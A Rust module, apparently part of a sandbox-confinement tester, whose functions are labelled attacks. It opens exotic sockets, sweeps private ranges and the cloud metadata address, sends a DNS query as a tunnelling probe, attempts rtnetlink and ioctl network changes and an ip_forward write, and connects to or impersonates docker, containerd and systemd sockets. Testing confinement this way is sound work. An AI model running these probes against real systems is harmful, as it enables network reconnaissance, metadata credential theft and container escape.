//! Looks for somebody to talk to: the owner's network, the machine itself, the cloud that it may stand in.

use std::io::Write as _;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream, ToSocketAddrs as _, UdpSocket};
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::{SocketAddr as UnixAddr, UnixDatagram, UnixListener, UnixStream};
use std::time::Duration;

use nix::libc;

use crate::raw::{Arg, attempt};
use crate::{Attack, Words, errno, said};

pub(crate) const ATTACKS: &[Attack] =
    &[("sockets", sockets), ("reach", reach), ("sweep", sweep), ("tunnel", tunnel), ("spoof", spoof), ("unix", unix)];

/// Every kind of socket that is not for talking to a server.
fn sockets(_: Words<'_>) {
    // Kept open, so that they can be found in the tables of the namespace.
    let mut kept = 0;
    for (name, family, kind, protocol) in [
        ("packet", 17, 3, 0x0300),
        ("packet datagram", 17, 2, 0x0300),
        ("raw icmp", 2, 3, 1),
        ("raw any", 2, 3, 255),
        ("raw ipv6", 10, 3, 58),
        ("ping", 2, 2, 1),
        ("ping6", 10, 2, 58),
        ("netlink route", 16, 3, 0),
        ("netlink sock_diag", 16, 3, 4),
        ("netlink xfrm", 16, 3, 6),
        ("netlink selinux", 16, 3, 7),
        ("netlink audit", 16, 3, 9),
        ("netlink netfilter", 16, 3, 12),
        ("netlink uevent", 16, 3, 15),
        ("netlink generic", 16, 3, 16),
        ("netlink crypto", 16, 3, 21),
        ("alg", 38, 5, 0),
        ("vsock", 40, 1, 0),
        ("bluetooth", 31, 3, 1),
        ("tipc", 30, 1, 0),
        ("can", 29, 3, 1),
        ("key", 15, 3, 2),
        ("xdp", 44, 3, 0),
        ("smc", 43, 1, 0),
        ("rds", 21, 5, 0),
        ("ax25", 3, 2, 0),
        ("appletalk", 5, 2, 0),
        ("x25", 9, 5, 0),
        ("mctp", 45, 2, 0),
        ("sctp", 2, 1, 132),
        ("dccp", 2, 6, 33),
        ("mptcp", 2, 1, 262),
        ("udplite", 2, 2, 136),
    ] {
        let outcome = attempt(libc::SYS_socket, &mut [Arg::Int(family), Arg::Int(kind), Arg::Int(protocol)]);
        kept += u32::from(outcome.is_ok());
        said(name, outcome);
    }
    println!("{kept} are open");
}

/// `reach ADDRESS:PORT…`: by TCP, and by a datagram.
fn reach(words: Words<'_>) {
    for word in words {
        let address: SocketAddr = match word.to_socket_addrs().map(|mut found| found.next()) {
            Ok(Some(address)) => address,
            other => {
                println!("{word}: {other:?}");
                continue;
            }
        };
        knock(address);
    }
}

fn knock(address: SocketAddr) {
    match TcpStream::connect_timeout(&address, Duration::from_millis(500)) {
        Ok(mut stream) => {
            let _ = stream.write_all(b"knock");
            println!("tcp {address}: OK");
        }
        Err(error) => println!("tcp {address}: {}", error.kind()),
    }
    let any: SocketAddr = match address.ip() {
        IpAddr::V4(_) => (Ipv4Addr::UNSPECIFIED, 0).into(),
        IpAddr::V6(_) => (std::net::Ipv6Addr::UNSPECIFIED, 0).into(),
    };
    let sent = UdpSocket::bind(any).and_then(|socket| {
        let _ = socket.set_broadcast(true);
        socket.send_to(b"knock", address)
    });
    said(format_args!("udp {address}"), sent.map_err(errno));
}

/// `sweep PORT…`: an address or two of every private, local and shared range.
fn sweep(words: Words<'_>) {
    let ports: Vec<u16> = words.iter().filter_map(|word| word.parse().ok()).collect();
    let addresses: Vec<IpAddr> = [
        "0.0.0.0",
        "10.0.0.1",
        "10.88.0.1",
        "10.88.0.2",
        "10.255.255.254",
        "100.64.0.1",
        "100.100.100.200",
        "127.0.0.1",
        "127.0.0.53",
        "169.254.1.1",
        "169.254.169.254",
        "172.16.0.1",
        "172.17.0.1",
        "172.31.255.254",
        "192.168.0.1",
        "192.168.1.1",
        "192.168.77.1",
        "192.168.255.254",
        "198.18.0.1",
        "224.0.0.1",
        "239.255.255.250",
        "255.255.255.255",
        "::1",
        "::ffff:192.168.77.1",
        "fd00::1",
        "fd00:ec2::254",
        "fe80::1",
        "ff02::1",
        "64:ff9b::c0a8:4d01",
    ]
    .iter()
    .filter_map(|text| text.parse().ok())
    .collect();
    // Side by side, since silence takes its time.
    std::thread::scope(|scope| {
        for address in addresses {
            for port in &ports {
                scope.spawn(move || knock((address, *port).into()));
            }
        }
    });
}

/// `tunnel NAME…`: says something in a question to every resolver that it can think of.
fn tunnel(words: Words<'_>) {
    for name in words {
        match (*name, 80).to_socket_addrs() {
            Ok(found) => println!("{name}: {:?}", found.collect::<Vec<_>>()),
            Err(error) => println!("{name}: {error}"),
        }
    }
    // A question for the address of secret.example.
    let question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x00\x00\x01\x00\x01";
    for resolver in ["127.0.0.53:53", "10.88.0.1:53", "192.168.77.1:53", "192.0.2.53:53", "169.254.169.254:53"] {
        let sent = UdpSocket::bind("0.0.0.0:0").and_then(|socket| socket.send_to(question, resolver));
        said(format!("ask {resolver}"), sent.map_err(errno));
    }
}

/// Gives itself addresses, routes and devices over rtnetlink, which it may read.
fn spoof(_: Words<'_>) {
    let Ok(socket) = attempt(libc::SYS_socket, &mut [Arg::Int(16), Arg::Int(3), Arg::Int(0)]) else {
        println!("no netlink");
        return;
    };
    // RTM_NEWLINK 16, RTM_DELLINK 17, RTM_SETLINK 19, RTM_NEWADDR 20, RTM_DELADDR 21, RTM_NEWROUTE 24, RTM_NEWNEIGH 28.
    for kind in [16_u16, 17, 19, 20, 21, 24, 28] {
        let mut message = Vec::new();
        message.extend(32_u32.to_ne_bytes());
        message.extend(kind.to_ne_bytes());
        message.extend(0x605_u16.to_ne_bytes()); // request, acknowledge, create, exclusive
        message.extend([0; 8]);
        message.extend([2, 24, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        let length = i64::try_from(message.len()).unwrap_or(0);
        let sent = attempt(libc::SYS_sendto, &mut [Arg::Int(socket), Arg::Bytes(&mut message), Arg::Int(length)]);
        let mut answer = [0_u8; 128];
        let read = attempt(libc::SYS_read, &mut [Arg::Int(socket), Arg::Bytes(&mut answer), Arg::Int(128)]);
        let error = answer[16..20].try_into().map(i32::from_ne_bytes).unwrap_or(0);
        match (sent, read) {
            (Ok(_), Ok(_)) if error == 0 => println!("rtnetlink {kind}: OK"),
            (Ok(_), Ok(_)) => println!("rtnetlink {kind}: {:?}", nix::errno::Errno::from_raw(-error)),
            (sent, read) => println!("rtnetlink {kind}: {sent:?} {read:?}"),
        }
    }
    // SIOCSIFADDR, SIOCSIFFLAGS, SIOCADDRT, SIOCSIFHWADDR, SIOCBRADDIF
    for request in [0x8916, 0x8914, 0x890B, 0x8924, 0x89A2] {
        let mut parameters = [0_u8; 120];
        parameters[..4].copy_from_slice(b"eth0");
        let arguments = &mut [Arg::Int(socket), Arg::Int(request), Arg::Bytes(&mut parameters)];
        said(format!("ioctl {request:#x}"), attempt(libc::SYS_ioctl, arguments));
    }
    for (path, text) in [("/proc/sys/net/ipv4/ip_forward", "1"), ("/proc/self/net/arp", "")] {
        said(path, std::fs::write(path, text).map_err(errno));
    }
}

/// `unix NAME…`: abstract names of the host, and the paths at which hosts listen.
fn unix(words: Words<'_>) {
    for name in words {
        let Ok(address) = UnixAddr::from_abstract_name(name) else { continue };
        said(format!("@{name}"), UnixStream::connect_addr(&address).map_err(errno));
        let datagram = UnixDatagram::unbound().and_then(|socket| socket.send_to_addr(b"knock", &address));
        said(format!("@{name} datagram"), datagram.map_err(errno));
        // To sit where others would look for the host's.
        said(format!("be @{name}"), UnixListener::bind_addr(&address).map_err(errno));
    }
    for path in [
        "/run/dbus/system_bus_socket",
        "/var/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/run/systemd/notify",
        "/run/systemd/journal/socket",
        "/run/systemd/private",
        "/run/rig/runner.sock",
        "/dev/log",
        "/proc/1/root/run/systemd/notify",
    ] {
        said(path, UnixStream::connect(path).map_err(errno));
    }
    println!("NOTIFY_SOCKET {:?}", std::env::var_os("NOTIFY_SOCKET"));
}
